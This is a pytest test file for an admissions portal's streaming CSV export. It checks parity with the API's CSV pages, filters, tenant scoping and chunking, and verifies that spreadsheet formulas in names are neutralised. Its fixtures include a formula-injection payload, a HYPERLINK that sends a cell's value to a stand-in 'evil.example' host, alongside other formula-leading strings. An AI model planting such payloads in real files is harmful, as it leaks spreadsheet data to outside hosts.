"""The streaming CSV export of every matching application (what the portal's "export all" serves).

On PostgreSQL the export is rendered by the database (COPY); it must parse back to exactly what the CSV
pages of the API (rendered in Python) give for the same query.
"""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from sqlalchemy import func, insert, select, update

from core.applications import csv_export
from core.applications.csv_export import export_applications_csv
from core.db import db
from core.applications.listing.query import parse_application_query
from core.models import Applicant, Application
from core.applications.records import RECORD_COLUMNS
from core.scoping import InstitutionScope
from tests.api.conftest import parse_csv

LIST = "/api/v1/applications"
AWKWARD_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "@SUM(1)", "+1", "-1", "\tTab", "\rCR",
    "line\nbreak", 'quote " inside', "comma, inside", "Zoë Ñandú", "", " leading space", "\\.", "'already",
    # phone-shaped: kept only as "+" then 7 to 15 digits (separators allowed), anything else neutralised
    "+250788123456", "+250 788 123 456", "-250788123456", "=250788123456", "+123456", "+1234567890123456",
]


def export_text(app, tenant, args=None) -> str:
    with app.test_request_context():
        query = parse_application_query(args or {})
        chunks = list(export_applications_csv(InstitutionScope(tenant.institution.id), query.filters))
    assert all(isinstance(chunk, bytes) for chunk in chunks)
    return b"".join(chunks).decode("utf-8")


def pages_as_rows(api_get, tenant, params=None) -> list[list[str]]:
    rows, cursor = [], None
    while True:
        response = api_get(tenant, LIST, {**(params or {}), "format": "csv", "limit": 7,
                                          **({"cursor": cursor} if cursor else {})})
        rows.extend(list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))[1:])
        if response.headers["X-Has-Next"] == "false":
            return rows
        cursor = response.headers["X-Cursor"]


@pytest.fixture
def awkward(app, factory, tenant):
    made = []
    for number, name in enumerate(AWKWARD_NAMES):
        made.append(factory.application(
            tenant.institution, program=tenant.program if number % 2 else tenant.other_program,
            cycle=tenant.cycle, first_name=name, last_name=name[::-1], decision="accepted" if number % 3 else "none",
            paid=number % 4 == 0, enrolled=number % 5 == 0, submitted_by_staff=number % 2 == 0,
            submitted_at=datetime(2026, 5, 1, 9, number, 0, 0 if number % 2 else 123456)))
    with app.app_context():
        db.session.execute(update(Applicant).where(Applicant.id == made[0].applicant_id).values(phone=None))
        db.session.commit()
    return made


def test_export_parses_back_to_the_api_csv_pages(app, api_get, tenant, awkward):
    text = export_text(app, tenant)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == list(RECORD_COLUMNS)
    assert parsed[1:] == pages_as_rows(api_get, tenant)
    assert len(parsed) == len(AWKWARD_NAMES) + 1


def test_export_neutralises_formulas_and_keeps_numbers(app, tenant, awkward):
    rows = list(csv.DictReader(io.StringIO(export_text(app, tenant), newline="")))
    first_names = [row["personal.first_name"] for row in rows]
    assert first_names[:6] == ["'" + name for name in AWKWARD_NAMES[:6]]
    assert first_names[6:14] == AWKWARD_NAMES[6:14]
    assert first_names[14:] == ["+250788123456", "+250 788 123 456", "'-250788123456", "'=250788123456", "'+123456",
                                "'+1234567890123456"]
    assert rows[0]["personal.phone"] == ""
    assert rows[1]["personal.phone"] == "+250788000000"  # a plain phone number is not quoted
    assert rows[0]["payment.amount"] == "75.50" and rows[1]["payment.amount"] == "50000.00"
    assert rows[0]["application.submitted_at"] == "2026-05-01T09:00:00.123456Z"
    assert rows[1]["application.submitted_at"] == "2026-05-01T09:01:00Z"
    assert {row["payment.paid"] for row in rows} == {"true", "false"}


@pytest.mark.parametrize("args", [
    {"decision": "accepted"},
    {"program": "Alpha University Nursing", "paid": "false"},
    {"q": "hyperlink"},
    {"submitted_after": "2026-05-01T09:05:00Z", "submitted_before": "2026-05-01T09:09:00Z"},
])
def test_export_applies_the_filters(app, api_get, tenant, other_tenant, factory, awkward, args):
    factory.application(other_tenant.institution, program=other_tenant.program, cycle=other_tenant.cycle,
                        first_name=AWKWARD_NAMES[0], decision="accepted")
    parsed = list(csv.reader(io.StringIO(export_text(app, tenant, args), newline="")))
    expected = pages_as_rows(api_get, tenant, args)
    assert expected, "the filter matches something"
    assert parsed[1:] == expected


def test_export_of_nothing_is_the_header(app, tenant):
    assert export_text(app, tenant) == ",".join(RECORD_COLUMNS) + "\n"


def test_export_streams_in_chunks(app, factory, tenant, monkeypatch):
    monkeypatch.setattr(csv_export, "STREAM_CHUNK_SIZE", 1000)
    for _ in range(30):
        factory.application(tenant.institution, program=tenant.program, cycle=tenant.cycle)
    with app.test_request_context():
        chunks = list(export_applications_csv(InstitutionScope(tenant.institution.id), {}))
    assert len(chunks) > 5
    assert all(len(chunk) < 1000 + 1000 for chunk in chunks)
    assert b"".join(chunks).count(b"\n") == 31


def test_export_closed_early_leaves_the_session_usable(app, factory, tenant):
    """Enough rows that PostgreSQL is still sending when the client goes away, so the COPY is cancelled."""
    first = factory.application(tenant.institution, program=tenant.program, cycle=tenant.cycle)
    copies = 40_000
    with app.app_context():
        db.session.execute(insert(Application), [
            {"id": f"app_bulk{number:012d}", "reference": f"BK-2026-{number:05d}", "institution_id": tenant.institution.id,
             "applicant_id": first.applicant_id, "program_id": tenant.program.id, "cycle_id": tenant.cycle.id,
             "stage": "submitted", "submitted_at": first.submitted_at, "updated_at": first.submitted_at}
            for number in range(copies)])
        db.session.commit()
    with app.test_request_context():
        stream = export_applications_csv(InstitutionScope(tenant.institution.id), {})
        next(stream)
        next(stream)
        stream.close()
        assert db.session.scalar(select(func.count()).select_from(Application)) == copies + 1


def test_export_is_scoped(app, api_get, factory, tenant, other_tenant):
    mine = factory.application(tenant.institution, program=tenant.program, cycle=tenant.cycle)
    factory.application(other_tenant.institution, program=other_tenant.program, cycle=other_tenant.cycle)
    rows = list(csv.DictReader(io.StringIO(export_text(app, tenant), newline="")))
    assert [row["id"] for row in rows] == [mine.id]


def test_search_csv_neutralises_formulas(api_get, tenant, awkward):
    response = api_get(tenant, "/api/v1/applications/search", {"q": "@sum", "format": "csv"})
    assert [row["personal.first_name"] for row in parse_csv(response)] == ["'@SUM(1)"]
